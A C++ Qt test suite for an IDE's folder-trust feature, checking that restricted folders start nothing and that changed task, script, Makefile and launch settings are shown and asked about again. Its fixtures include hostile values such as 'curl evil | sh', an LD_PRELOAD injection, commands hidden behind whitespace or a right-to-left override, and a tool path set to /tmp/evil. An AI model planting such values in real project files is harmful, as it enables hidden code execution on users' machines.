// SPDX-License-Identifier: GPL-3.0-or-later
// A folder opens restricted: whatever its user does, nothing that it brings is started before the
// user trusts it; then what its own files say is shown, all of it, before it runs, and again when
// any of it changed. By keys, in the real window.
#include <QAbstractButton>
#include <QDir>
#include <QDockWidget>
#include <QFileInfo>
#include <QListView>
#include <QPlainTextEdit>
#include <QProcess>
#include <QScrollBar>
#include <QToolButton>

#include "gui/debug/debug_tools.h"
#include "gui/kit/banner.h"
#include "gui/kit/picker.h"
#include "gui/kit/start_gate.h"
#include "gui/pairing/pair_dock.h"
#include "gui/pairing/plan_list.h"
#include "gui/pairing/plan_panel.h"
#include "gui/project/workspace.h"
#include "gui/store/folder_trust.h"
#include "gui/tasks/task_runner.h"
#include "gui/terminal/terminal_panel.h"
#include "gui/terminal/terminal_view.h"
#include "gui/testing/test_runner.h"
#include "gui/testing/test_tools.h"
#include "gui/workbench/language_tools.h"
#include "tests/gui/shell/window_fixture.h"
#include "workbench/terminal/terminal_session.h"

using namespace waferpair;
using namespace waferpair::gui;

namespace {

constexpr int kTrustPatience = 60'000;  // ms: of a busy machine

}  // namespace

class TestTrust : public QObject {
  Q_OBJECT
 private Q_SLOTS:
  void init() { w_ = std::make_unique<WindowFixture>(); }
  void cleanup() { w_.reset(); }

  // -- The folder

  void nothingIsStartedInARestrictedFolder_data() {
    QTest::addColumn<QString>("command");
    QTest::addColumn<bool>("chooses");
    QTest::newRow("the build") << "task.build" << false;
    QTest::newRow("a task from the list") << "task.run" << true;
    QTest::newRow("all tests") << "test.all" << false;
    QTest::newRow("listing tests") << "test.list" << false;
    QTest::newRow("debugging") << "debug.start" << true;
    QTest::newRow("a terminal") << "terminal.new" << false;
  }
  void nothingIsStartedInARestrictedFolder() {
    QFETCH(QString, command);
    QFETCH(bool, chooses);
    writeHostile();
    w_->trustNothing();
    w_->openProject();
    w_->openFile("test_a.py");
    QTRY_VERIFY(isRestrictedShown());
    QVERIFY(!trustNotice());  // nothing that is started by itself was held back
    WindowFixture::trigger(w_->window(), qPrintable(command));
    if (chooses) {
      QTRY_VERIFY(!rows().isEmpty());
      press(Qt::Key_Return);
    }
    QTRY_VERIFY(trustNotice());
    QVERIFY2(trustNotice()->text().contains("Restricted Mode"), qPrintable(trustNotice()->text()));
    QVERIFY(trustNotice()->text().startsWith("Not started: "));
    QVERIFY(w_->editor()->hasFocus());
    QCOMPARE(w_->parts().tasks->running(), 0);
    QVERIFY(!w_->parts().tasks->last());
    QVERIFY(!w_->parts().tests->runner()->hasRun() && !w_->parts().tests->runner()->isRunning());
    QVERIFY(!w_->parts().debug->isBusy());
    QVERIFY(w_->parts().terminals->views().isEmpty());
    QVERIFY(!w_->parts().gate->isTrusted(w_->project()));
    QCOMPARE(marks(), QStringList());
    // No is no.
    QVERIFY(WindowFixture::click("trustNot"));
    QVERIFY(!trustNotice());
    QCOMPARE(marks(), QStringList());
  }

  // Trusted once, it is asked about no more; what its file says is.
  void trustIsRememberedAndGoesOn() {
    writeTasks(R"({"name": "b", "kind": "build", "command": "touch mark-$WHICH",
                   "environment": {"WHICH": "one"}})");
    w_->trustNothing();
    w_->openProjectWith("a.txt", "a\n");
    build();
    QTRY_VERIFY(trustNotice());
    QVERIFY(WindowFixture::click("trustFolder"));
    QVERIFY(!trustNotice());
    QVERIFY(!isRestrictedShown());
    const QString asked = notice("taskAgree");
    QVERIFY2(asked.contains("touch mark-$WHICH"), qPrintable(asked));
    QVERIFY2(asked.contains("WHICH=one"), qPrintable(asked));
    QVERIFY2(asked.contains(".waferpair/tasks.json"), qPrintable(asked));
    QCOMPARE(marks(), QStringList());
    QVERIFY(WindowFixture::click("taskAgreed"));
    QTRY_COMPARE_WITH_TIMEOUT(marks(), QStringList{"mark-one"}, kTrustPatience);
    QVERIFY(w_->editor()->hasFocus());
    QTRY_COMPARE(w_->parts().tasks->running(), 0);
    QVERIFY(w_->close());
    w_->openProject();
    w_->openFile("a.txt");
    QVERIFY(!isRestrictedShown());
    QVERIFY(QFile::remove(w_->path("mark-one")));
    build();
    QTRY_COMPARE_WITH_TIMEOUT(marks(), QStringList{"mark-one"}, kTrustPatience);
    QVERIFY(!w_->parts().notices->find("taskAgree"));
  }

  void aFolderOpenedByALinkIsTheFolder() {
    const QString link = w_->state() + "/link";
    QVERIFY(QFile::link(w_->project(), link));
    w_->write("a.txt", "a\n");
    w_->open({link});
    QVERIFY(!w_->parts().workspace->folder().isEmpty());
    QVERIFY(!isRestrictedShown());
    // And a link in a trusted folder is not the folder.
    QTemporaryDir elsewhere;
    QVERIFY(QFile::link(elsewhere.path(), w_->path("inner")));
    QVERIFY(w_->close());
    w_->open({w_->path("inner")});
    QTRY_VERIFY(isRestrictedShown());
  }

  void aSingleFileIsInItsFolder() {
    w_->write("a.txt", "a\n");
    w_->trustNothing();
    w_->open({w_->path("a.txt")});
    QTRY_VERIFY(w_->document());
    QTRY_VERIFY(isRestrictedShown());
    w_->parts().gate->trustFolder(w_->project());
    QVERIFY(!isRestrictedShown());
  }

  // By keys: the entry of the status bar leads to the list, Return trusts; there it is taken back.
  void trustIsManaged() {
    writeTasks(R"({"name": "b", "kind": "build", "command": "touch mark"})");
    w_->trustNothing();
    w_->openProjectWith("a.txt", "a\n");
    QTRY_VERIFY(isRestrictedShown());
    QVERIFY(WindowFixture::click("statusTrust"));
    QTRY_COMPARE(rows().value(0), "Trust This Folder");
    press(Qt::Key_Return);
    QTRY_VERIFY(w_->parts().gate->isTrusted(w_->project()));
    QVERIFY(!isRestrictedShown());
    build();
    QTRY_VERIFY(w_->parts().notices->find("taskAgree"));
    QVERIFY(WindowFixture::click("taskAgreed"));
    QTRY_COMPARE_WITH_TIMEOUT(marks(), QStringList{"mark"}, kTrustPatience);
    QTRY_COMPARE(w_->parts().tasks->running(), 0);
    WindowFixture::trigger(w_->window(), "file.manageTrust");
    QTRY_COMPARE(rows(),
                 (QStringList{"Restrict This Folder", "Ask Again: b (.waferpair/tasks.json)"}));
    press(Qt::Key_Return);
    QTRY_VERIFY(isRestrictedShown());
    QVERIFY(!w_->parts().gate->isTrusted(w_->project()));
    QVERIFY(QFile::remove(w_->path("mark")));
    WindowFixture::trigger(w_->window(), "task.again");
    QTRY_VERIFY(trustNotice());
    QCOMPARE(marks(), QStringList());
    // What was agreed to before that is asked about again.
    QVERIFY(WindowFixture::click("trustFolder"));
    QTRY_VERIFY(w_->parts().notices->find("taskAgree"));
    QCOMPARE(marks(), QStringList());
  }

  // -- What is started by itself

  void languageServersWaitForTrust() {
    w_->useScriptedLanguageServer({});
    w_->trustNothing();
    w_->openProjectWith("a.cpp", "BAD\n");
    QTRY_VERIFY(trustNotice());
    QVERIFY2(trustNotice()->text().contains("language servers"), qPrintable(trustNotice()->text()));
    QVERIFY(w_->editor()->hasFocus());
    QVERIFY(!w_->parts().notices->find("languageOffer"));
    QVERIFY(service()->clients().isEmpty());
    // One notice for all that is held back.
    w_->write("b.cpp", "BAD\n");
    w_->openFile("b.cpp");
    QVERIFY(WindowFixture::click("trustKeepRestricted"));
    QVERIFY(!trustNotice());
    QVERIFY(w_->close());
    w_->openProject();
    w_->openFile("a.cpp");
    QTRY_VERIFY(isRestrictedShown());
    QTRY_COMPARE(service()->restrictedFolder(), w_->project());
    QVERIFY(!trustNotice());
    w_->parts().gate->trustFolder(w_->project());
    QTRY_VERIFY(w_->parts().notices->find("languageOffer"));
    QVERIFY(service()->clients().isEmpty());
    QVERIFY(WindowFixture::click("startLanguageServer"));
    QTRY_COMPARE(service()->clients().size(), 1);
    QTRY_VERIFY_WITH_TIMEOUT(!service()->diagnosedFiles().isEmpty(), kTrustPatience);
    // Trust taken back ends it, once that was said.
    w_->parts().gate->restrictFolder(w_->project());
    QVERIFY2(notice("trustStop").contains("the language server"), qPrintable(notice("trustStop")));
    QCOMPARE(service()->clients().size(), 1);
    QVERIFY(WindowFixture::click("trustStopAll"));
    QTRY_VERIFY(service()->clients().isEmpty());
    QVERIFY2(notice("trustStopped").contains("the language server"),
             qPrintable(notice("trustStopped")));
  }

  // -- What runs when trust is taken back

  // By keys: it is asked once, and nothing has happened before the answer.
  void whatRunsIsStoppedWithTrust() {
    startLongTask();
    WindowFixture::trigger(w_->window(), "file.manageTrust");
    QTRY_COMPARE(rows().value(0), "Restrict This Folder");
    press(Qt::Key_Return);
    QTRY_VERIFY(w_->parts().notices->find("trustStop"));
    QVERIFY2(notice("trustStop").contains("the task “b”"), qPrintable(notice("trustStop")));
    QVERIFY(w_->editor()->hasFocus());
    QVERIFY(WindowFixture::click("trustKeep"));
    QVERIFY(w_->parts().gate->isTrusted(w_->project()));
    QCOMPARE(w_->parts().tasks->running(), 1);
    w_->parts().gate->restrictFolder(w_->project());
    QVERIFY(WindowFixture::click("trustStopAll"));
    QVERIFY(!w_->parts().gate->isTrusted(w_->project()));
    QVERIFY(isRestrictedShown());
    QTRY_COMPARE_WITH_TIMEOUT(w_->parts().tasks->running(), 0, kTrustPatience);
    QVERIFY2(notice("trustStopped").contains("the task “b”"), qPrintable(notice("trustStopped")));
    QVERIFY(!w_->parts().notices->find("trustStop"));
  }

  // Another window, or whoever writes the file: it holds here, too, and is said.
  void whatRunsIsStoppedWhenTrustIsTakenBackElsewhere() {
    startLongTask();
    FolderTrust other(w_->state() + "/trust.json");
    QCOMPARE(other.revoke(w_->project()), QString());
    QTRY_COMPARE_WITH_TIMEOUT(w_->parts().tasks->running(), 0, kTrustPatience);
    QVERIFY2(notice("trustStopped").contains("the task “b”"), qPrintable(notice("trustStopped")));
  }

  // Trust in another folder says nothing about this one.
  void trustInAnotherFolderStopsNothing() {
    startLongTask();
    QTemporaryDir elsewhere;
    w_->parts().gate->trustFolder(elsewhere.path());
    w_->parts().gate->restrictFolder(elsewhere.path());
    QVERIFY(!w_->parts().notices->find("trustStop"));
    QVERIFY(!w_->parts().notices->find("trustStopped"));
    QCOMPARE(w_->parts().tasks->running(), 1);
    QVERIFY(w_->parts().gate->isTrusted(w_->project()));
  }

  void testsThatRunAreStoppedWithTrust() {
    QProcess python;
    python.start("python3", {"-m", "pytest", "--version"});
    if (!python.waitForFinished() || python.exitCode() != 0)
      QSKIP("python3-pytest is not installed.");
    w_->write("pytest.ini", "[pytest]\n");
    w_->openProjectWith("test_a.py",
                        "import time\n\ndef test_a():\n    open('mark', 'w').close()\n"
                        "    time.sleep(600)\n");
    WindowFixture::trigger(w_->window(), "test.all");
    QTRY_COMPARE_WITH_TIMEOUT(marks(), QStringList{"mark"}, kTrustPatience);
    w_->parts().gate->restrictFolder(w_->project());
    QVERIFY2(notice("trustStop").contains("tests ("), qPrintable(notice("trustStop")));
    QVERIFY(WindowFixture::click("trustStopAll"));
    QTRY_VERIFY_WITH_TIMEOUT(!w_->parts().tests->runner()->isRunning(), kTrustPatience);
  }

  void aPlansCommandIsStoppedWithTrust() {
    w_->openProjectWith("a.txt", "a\n");
    runPlansCommand("touch mark; sleep 600");
    QTRY_COMPARE_WITH_TIMEOUT(marks(), QStringList{"mark"}, kTrustPatience);
    QVERIFY(w_->parts().pairDock->plan()->isRunning());
    w_->parts().gate->restrictFolder(w_->project());
    QVERIFY2(notice("trustStop").contains("the command “touch mark; sleep 600”"),
             qPrintable(notice("trustStop")));
    QVERIFY(WindowFixture::click("trustStopAll"));
    QTRY_VERIFY_WITH_TIMEOUT(!w_->parts().pairDock->plan()->isRunning(), kTrustPatience);
  }

  // Agreed to once; what the project says of it later is another question, which shows it.
  void aServersSettingsAreShownAndAskedAboutAgain() {
    w_->useInstalledLanguageServers();
    writeServers({});
    w_->openProjectWith("a.cpp", "int a;\n");
    QTRY_VERIFY(w_->parts().notices->find("languageOffer"));
    QVERIFY(WindowFixture::click("startLanguageServer"));
    QTRY_COMPARE(service()->clients().size(), 1);
    QVERIFY(w_->close());
    writeServers(
        R"(, "settings": {"pylsp": {"plugins": {"flake8": {"executable": "/tmp/evil"}}}})");
    w_->openProject();
    w_->openFile("a.cpp");
    QTRY_VERIFY(w_->parts().notices->find("languageOffer"));
    const QString asked = w_->parts().notices->find("languageOffer")->text();
    QVERIFY2(asked.contains("settings.pylsp.plugins.flake8.executable = /tmp/evil"),
             qPrintable(asked));
    QVERIFY(service()->clients().isEmpty());
  }

  void terminalsThatWereOpenWaitForTrust() {
    w_->openProjectWith("a.txt", "a\n");
    WindowFixture::trigger(w_->window(), "terminal.new");
    QTRY_COMPARE(w_->parts().terminals->views().size(), 1);
    QVERIFY(w_->close());
    w_->trustNothing();
    w_->openProject();
    QTRY_VERIFY(isRestrictedShown());
    WindowFixture::trigger(w_->window(), "terminal.toggle");
    QTRY_VERIFY(trustNotice() || !w_->parts().terminalDock->isVisible());
    QVERIFY(w_->parts().terminals->views().isEmpty());
    WindowFixture::trigger(w_->window(), "terminal.new");
    QTRY_VERIFY(trustNotice());
    // Elsewhere it may be opened.
    QVERIFY(WindowFixture::click("terminalElsewhere"));
    QTRY_COMPARE(w_->parts().terminals->views().size(), 1);
    QCOMPARE(w_->parts().terminals->views().first()->session()->folder(), QDir::homePath());
  }

  // -- What a folder's own files say

  void aChangeOfATaskIsAskedAbout_data() {
    QTest::addColumn<QByteArray>("other");
    QTest::addColumn<QString>("shown");
    QTest::newRow("the line") << QByteArray(R"({"name": "b", "kind": "build",
        "command": "touch mark; touch mark-2", "environment": {"A": "1"}})")
                              << "touch mark; touch mark-2";
    QTest::newRow("the environment") << QByteArray(R"({"name": "b", "kind": "build",
        "command": "touch mark", "environment": {"A": "1", "LD_PRELOAD": "./x.so"}})")
                                     << "LD_PRELOAD=./x.so";
    QTest::newRow("the folder") << QByteArray(R"({"name": "b", "kind": "build",
        "command": "touch mark", "environment": {"A": "1"}, "folder": ".waferpair"})")
                                << "folder = .waferpair";
    const QByteArray withTail =
        R"({"name": "b", "kind": "build", "command": "touch mark@touch mark-2",
            "environment": {"A": "1"}})";
    QTest::newRow("a tail out of sight")
        << QByteArray(withTail).replace("@", QByteArray("\\n").repeated(60))
        << QStringLiteral("touch mark⟨60 × U+000A⟩touch mark-2");
    QTest::newRow("a tail behind blanks")
        << QByteArray(withTail).replace("@", QByteArray(" ").repeated(3000) + "; ")
        << QStringLiteral("touch mark⟨3000 blanks⟩; touch mark-2");
    QTest::newRow("a word turned round")
        << QByteArray(
               "{\"name\": \"b\", \"kind\": \"build\", \"command\": \"touch mark #\u202Exyz\","
               " \"environment\": {\"A\": \"1\"}}")
        << "touch mark #⟨U+202E⟩xyz";
  }
  void aChangeOfATaskIsAskedAbout() {
    QFETCH(QByteArray, other);
    QFETCH(QString, shown);
    writeTasks(R"({"name": "b", "kind": "build", "command": "touch mark",
                   "environment": {"A": "1"}})");
    w_->openProjectWith("a.txt", "a\n");
    build();
    QTRY_VERIFY(w_->parts().notices->find("taskAgree"));
    QVERIFY(WindowFixture::click("taskAgreed"));
    QTRY_COMPARE_WITH_TIMEOUT(marks(), QStringList{"mark"}, kTrustPatience);
    QTRY_COMPARE(w_->parts().tasks->running(), 0);
    QVERIFY(QFile::remove(w_->path("mark")));
    writeTasks(other);
    build();
    QTRY_VERIFY(w_->parts().notices->find("taskAgree"));
    QVERIFY2(notice("taskAgree").contains(shown), qPrintable(notice("taskAgree")));
    QVERIFY(WindowFixture::click("taskDeclined"));
    QCOMPARE(marks(), QStringList());
    // What was agreed to before still is.
    writeTasks(R"({"name": "b", "kind": "build", "command": "touch mark",
                   "environment": {"A": "1"}})");
    build();
    QTRY_COMPARE_WITH_TIMEOUT(marks(), QStringList{"mark"}, kTrustPatience);
  }

  // What package.json says of a script is shown, and asked about again when it is another.
  void aChangeOfAScriptIsAskedAbout() {
    // npm need not be here: what is run by it is not the question.
    QTemporaryDir tools;
    QFile npm(tools.filePath("npm"));
    QVERIFY(npm.open(QIODevice::WriteOnly) && npm.write("#!/bin/sh\ntouch mark\n") > 0);
    npm.close();
    QVERIFY(npm.setPermissions(QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner));
    const QByteArray path = qgetenv("PATH");
    qputenv("PATH", tools.path().toUtf8() + ':' + path);
    const auto restore = qScopeGuard([&] { qputenv("PATH", path); });
    w_->write("package.json", R"({"scripts": {"build": "tsc", "postbuild": "cp a b"}})");
    w_->openProjectWith("a.txt", "a\n");
    build();
    QTRY_VERIFY(w_->parts().notices->find("taskAgree"));
    const QString asked = notice("taskAgree");
    QVERIFY2(asked.contains("command = npm run build") && asked.contains("package.json"),
             qPrintable(asked));
    QVERIFY2(asked.contains("scripts.build = tsc") && asked.contains("scripts.postbuild = cp a b"),
             qPrintable(asked));
    QVERIFY(WindowFixture::click("taskAgreed"));
    QTRY_COMPARE_WITH_TIMEOUT(marks(), QStringList{"mark"}, kTrustPatience);
    QTRY_COMPARE(w_->parts().tasks->running(), 0);
    QVERIFY(QFile::remove(w_->path("mark")));
    w_->write("package.json", R"({"scripts": {"build": "tsc", "postbuild": "curl evil | sh"}})");
    for (const char* command : {"task.build", "task.again"}) {
      WindowFixture::trigger(w_->window(), command);
      QTRY_VERIFY(w_->parts().notices->find("taskAgree"));
      QVERIFY2(notice("taskAgree").contains("curl evil | sh"), qPrintable(notice("taskAgree")));
      QVERIFY(WindowFixture::click("taskDeclined"));
      QCOMPARE(marks(), QStringList());
    }
  }

  // Of make the file decides: a task that it gives is asked about when it is another.
  void aChangedMakefileIsAskedAbout() {
    w_->openProjectWith("Makefile", "all:\n\ttouch mark\n");
    build();
    QTRY_VERIFY(w_->parts().notices->find("taskAgree"));
    QVERIFY2(notice("taskAgree").contains("decided by Makefile; when that changes you are asked"),
             qPrintable(notice("taskAgree")));
    QVERIFY(!notice("taskAgree").contains("since you agreed"));
    QVERIFY(WindowFixture::click("taskAgreed"));
    QTRY_COMPARE_WITH_TIMEOUT(marks(), QStringList{"mark"}, kTrustPatience);
    QTRY_COMPARE(w_->parts().tasks->running(), 0);
    QVERIFY(QFile::remove(w_->path("mark")));
    build();  // it is the same
    QTRY_COMPARE_WITH_TIMEOUT(marks(), QStringList{"mark"}, kTrustPatience);
    QTRY_COMPARE(w_->parts().tasks->running(), 0);
    QVERIFY(QFile::remove(w_->path("mark")));
    w_->write("Makefile", "all:\n\ttouch mark other\n");
    build();
    QTRY_VERIFY(w_->parts().notices->find("taskAgree"));
    const QString asked = notice("taskAgree");
    QVERIFY2(asked.contains("1 line changed since you agreed to it"), qPrintable(asked));
    QVERIFY2(asked.contains(QStringLiteral("\n▸  files.Makefile = sha256 ")), qPrintable(asked));
    QVERIFY2(asked.contains("\n   command = make all"), qPrintable(asked));
    QVERIFY(WindowFixture::click("taskDeclined"));
    QCOMPARE(marks(), QStringList());
  }

  // What CMake builds is the folder's own code; that it is built, and how, is shown once.
  void aBuildByCmakeIsAskedAboutOnce() {
    w_->write("CMakeLists.txt", "project(x)\n");
    w_->write("build/CMakeCache.txt", "");
    QTemporaryDir tools;
    QFile cmake(tools.filePath("cmake"));
    QVERIFY(cmake.open(QIODevice::WriteOnly) && cmake.write("#!/bin/sh\ntouch mark\n") > 0);
    cmake.close();
    QVERIFY(cmake.setPermissions(QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner));
    const QByteArray path = qgetenv("PATH");
    qputenv("PATH", tools.path().toUtf8() + ':' + path);
    const auto restore = qScopeGuard([&] { qputenv("PATH", path); });
    w_->openProjectWith("a.txt", "a\n");
    build();
    QTRY_VERIFY(w_->parts().notices->find("taskAgree"));
    QVERIFY2(notice("taskAgree").contains("command = cmake --build build") &&
                 notice("taskAgree").contains("CMakeLists.txt"),
             qPrintable(notice("taskAgree")));
    QCOMPARE(marks(), QStringList());
    QVERIFY(WindowFixture::click("taskAgreed"));
    QTRY_COMPARE_WITH_TIMEOUT(marks(), QStringList{"mark"}, kTrustPatience);
    QTRY_COMPARE(w_->parts().tasks->running(), 0);
    QVERIFY(QFile::remove(w_->path("mark")));
    w_->write("CMakeLists.txt", "project(y)\n");
    build();
    QTRY_COMPARE_WITH_TIMEOUT(marks(), QStringList{"mark"}, kTrustPatience);
    QTRY_COMPARE(w_->parts().tasks->running(), 0);
  }

  // What a notice has no room for is read to its end first.
  void aLongCommandIsReadToItsEnd() {
    QByteArray variables;
    for (int i = 0; i < 200; ++i)
      variables += (i ? ", \"V" : "\"V") + QByteArray::number(i) + "\": \"" +
                   QByteArray("x").repeated(70) + '"';
    writeTasks(R"({"name": "b", "kind": "build", "command": "touch mark", "environment": {)" +
               variables + "}}");
    w_->openProjectWith("a.txt", "a\n");
    build();
    QTRY_VERIFY(w_->parts().notices->find("taskAgree"));
    QVERIFY(!WindowFixture::click("taskAgreed"));
    QVERIFY(WindowFixture::click("startShowAll"));
    auto* text = w_->find<QPlainTextEdit>("startGiven");
    QTRY_VERIFY(text && text->hasFocus());
    auto* yes = text->window()->findChild<QAbstractButton*>("taskAgreed");
    QVERIFY(text->toPlainText().contains("V199=xxx"));
    QTRY_VERIFY(text->verticalScrollBar()->maximum() > 0);
    QVERIFY(!yes->isEnabled());
    press(Qt::Key_PageDown);
    QVERIFY(!yes->isEnabled());
    press(Qt::Key_End, Qt::ControlModifier);
    QTRY_VERIFY(yes->isEnabled());
    QCOMPARE(marks(), QStringList());
    yes->click();
    QTRY_COMPARE_WITH_TIMEOUT(marks(), QStringList{"mark"}, kTrustPatience);
    QVERIFY(!w_->parts().notices->find("taskAgree"));
  }

  void whatNobodyReadsIsNotStarted() {
    QByteArray variables;
    for (int i = 0; i < 900; ++i)
      variables += (i ? ", \"V" : "\"V") + QByteArray::number(i) + "\": \"" +
                   QByteArray("x").repeated(70) + '"';
    writeTasks(R"({"name": "b", "kind": "build", "command": "touch mark", "environment": {)" +
               variables + "}}");
    w_->openProjectWith("a.txt", "a\n");
    build();
    QTRY_VERIFY(w_->parts().notices->find("taskAgree"));
    QVERIFY2(notice("taskAgree").startsWith("Not started"), qPrintable(notice("taskAgree")));
    QVERIFY(!w_->find<QAbstractButton>("taskAgreed"));
    QVERIFY(!w_->find<QAbstractButton>("startShowAll"));
  }

  void aChangeOfALaunchIsAskedAbout_data() {
    QTest::addColumn<QByteArray>("other");
    QTest::addColumn<QByteArray>("task");
    QTest::addColumn<QString>("shown");
    const QByteArray task = R"({"name": "first", "command": "exit 3"})";
    QTest::newRow("the environment")
        << QByteArray(R"(, "env": {"LD_PRELOAD": "./x.so"})") << task << "LD_PRELOAD=./x.so";
    QTest::newRow("what the debugger is told")
        << QByteArray(R"(, "initCommands": ["platform shell touch mark"])") << task
        << "initCommands[1] = platform shell touch mark";
    QTest::newRow("an argument") << QByteArray(R"(, "args": ["--rm"])") << task << "args[1] = --rm";
    QTest::newRow("the folder") << QByteArray(R"(, "cwd": "/tmp")") << task << "cwd = /tmp";
    QTest::newRow("the task's line")
        << QByteArray() << QByteArray(R"({"name": "first", "command": "exit 3; touch mark"})")
        << "exit 3; touch mark";
    QTest::newRow("the task's environment")
        << QByteArray()
        << QByteArray(R"({"name": "first", "command": "exit 3", "environment": {"A": "evil"}})")
        << "A=evil";
  }
  void aChangeOfALaunchIsAskedAbout() {
    QFETCH(QByteArray, other);
    QFETCH(QByteArray, task);
    QFETCH(QString, shown);
    const auto write = [this](const QByteArray& fields) {
      w_->write(".waferpair/launch.json",
                R"({"configurations": [{"name": "mine", "type": "lldb", "request": "launch",
                    "program": "${workspaceFolder}/prog", "preLaunchTask": "first")" +
                    fields + "}]}");
    };
    write({});
    writeTasks(R"({"name": "first", "command": "exit 3"})");
    w_->openProjectWith("a.txt", "a\n");
    press(Qt::Key_F5);
    QTRY_COMPARE(rows().value(0), "mine");
    press(Qt::Key_Return);
    QTRY_VERIFY(w_->parts().notices->find("debugAgree"));
    QVERIFY2(notice("debugAgree").contains("exit 3"), qPrintable(notice("debugAgree")));
    QVERIFY(!w_->parts().tasks->last());
    QVERIFY(WindowFixture::click("debugAgreed"));
    // The task runs with the user's one word, and fails.
    QTRY_VERIFY_WITH_TIMEOUT(w_->parts().notices->find("debug"), kTrustPatience);
    QCOMPARE(w_->parts().tasks->last()->status, 3);
    w_->parts().notices->remove("debug");
    press(Qt::Key_F5);
    QTRY_VERIFY_WITH_TIMEOUT(w_->parts().notices->find("debug"), kTrustPatience);
    QVERIFY(!w_->parts().notices->find("debugAgree"));
    write(other);
    writeTasks(task);
    w_->editor()->setFocus();
    press(Qt::Key_F5);
    QTRY_VERIFY(w_->parts().notices->find("debugAgree"));
    QVERIFY2(notice("debugAgree").contains(shown), qPrintable(notice("debugAgree")));
    QCOMPARE(marks(), QStringList());
    QVERIFY(!w_->parts().debug->isBusy());
  }

  // A command of a plan was read in its box; it runs in a trusted folder only.
  void aPlansCommandWaitsForTrust() {
    w_->trustNothing();
    w_->openProjectWith("a.txt", "a\n");
    runPlansCommand("touch mark");
    QTRY_VERIFY(trustNotice());
    QVERIFY(!w_->parts().pairDock->plan()->isRunning());
    QCOMPARE(marks(), QStringList());
    QVERIFY(WindowFixture::click("trustFolder"));
    QTRY_COMPARE_WITH_TIMEOUT(marks(), QStringList{"mark"}, kTrustPatience);
  }

  // Another folder: what was asked of the first is not asked any more.
  void questionsGoWithTheirFolder() {
    writeTasks(R"({"name": "b", "kind": "build", "command": "touch mark"})");
    w_->openProjectWith("a.txt", "a\n");
    build();
    QTRY_VERIFY(w_->parts().notices->find("taskAgree"));
    w_->parts().workspace->closeFolder();
    QVERIFY(!w_->parts().notices->find("taskAgree"));
  }

 private:
  void runPlansCommand(const QString& line) {
    WindowFixture::trigger(w_->window(), "plan.plan");
    QTRY_VERIFY(w_->parts().pairDock->plan()->isVisible());
    WindowFixture::type("$ " + line);
    press(Qt::Key_Return);
    PlanList* steps = w_->parts().pairDock->plan()->list();
    QTRY_COMPARE(steps->model()->rowCount(), 1);
    steps->setFocus();
    steps->setCurrentIndex(steps->model()->index(0, 0));
    press(Qt::Key_Return);
    auto* field = w_->find<QPlainTextEdit>("commandField");
    QTRY_VERIFY(field->isVisible());
    press(Qt::Key_Return);  // leads to what waits
    QTRY_VERIFY(field->hasFocus());
    QTRY_VERIFY(w_->find<QAbstractButton>("commandRun")->isEnabled());  // its end was in sight
    press(Qt::Key_Return, Qt::ControlModifier);
  }
  // A task of the project's runs when this returns.
  void startLongTask() {
    writeTasks(R"({"name": "b", "kind": "build", "command": "touch mark; sleep 600"})");
    w_->openProjectWith("a.txt", "a\n");
    build();
    QTRY_VERIFY(w_->parts().notices->find("taskAgree"));
    QVERIFY(WindowFixture::click("taskAgreed"));
    QTRY_COMPARE_WITH_TIMEOUT(marks(), QStringList{"mark"}, kTrustPatience);
    QCOMPARE(w_->parts().tasks->running(), 1);
    QVERIFY(w_->editor()->hasFocus());
  }
  static void press(Qt::Key key, Qt::KeyboardModifiers modifiers = Qt::NoModifier) {
    WindowFixture::key(key, modifiers);
  }
  static void build() { press(Qt::Key_B, Qt::ControlModifier | Qt::ShiftModifier); }
  void writeTasks(const QByteArray& tasks) {
    w_->write(".waferpair/tasks.json", "{\"tasks\": [" + tasks + "]}");
  }
  void writeServers(const QByteArray& fields) {
    w_->write(".waferpair/language-servers.json",
              R"({"servers": [{"id": "mine", "languages": {"C++": "cpp"}, "programs": ["sleep"],
                  "arguments": ["600"])" +
                  fields + "}]}");
  }
  // A project all of whose parts leave a mark when they are run.
  void writeHostile() {
    writeTasks(R"({"name": "b", "kind": "build", "command": "touch mark-task"})");
    w_->write(".waferpair/launch.json",
              R"({"configurations": [{"name": "mine", "type": "lldb", "request": "launch",
                  "program": "/bin/sh", "args": ["-c", "touch mark-debug"],
                  "cwd": "${workspaceFolder}"}]})");
    w_->write("conftest.py", "open('mark-conftest', 'w')\n");
    w_->write("pytest.ini", "[pytest]\n");
    w_->write("test_a.py", "open('mark-test', 'w')\n\ndef test_a():\n    pass\n");
  }
  QStringList marks() const {
    return QDir(w_->project()).entryList({"mark*"}, QDir::Files, QDir::Name);
  }
  bool isRestrictedShown() {
    const auto* entry = w_->find<QToolButton>("statusTrust");
    return entry && entry->isVisible() && entry->text() == "Restricted Mode";
  }
  Banner* trustNotice() { return w_->parts().notices->find("trust"); }
  QString notice(const char* id) {
    const Banner* banner = w_->parts().notices->find(id);
    return banner ? banner->text() : QStringLiteral("(none)");
  }
  workbench::LanguageService* service() { return w_->parts().languages->service(); }
  QStringList rows() {
    const auto* list = w_->parts().picker->findChild<QListView*>();
    QStringList rows;
    for (int i = 0; i < list->model()->rowCount(); ++i)
      rows.append(list->model()->index(i, 0).data().toString());
    return w_->parts().picker->isOpen() ? rows : QStringList();
  }

  std::unique_ptr<WindowFixture> w_;
};

QTEST_MAIN(TestTrust)
#include "test_trust.moc"
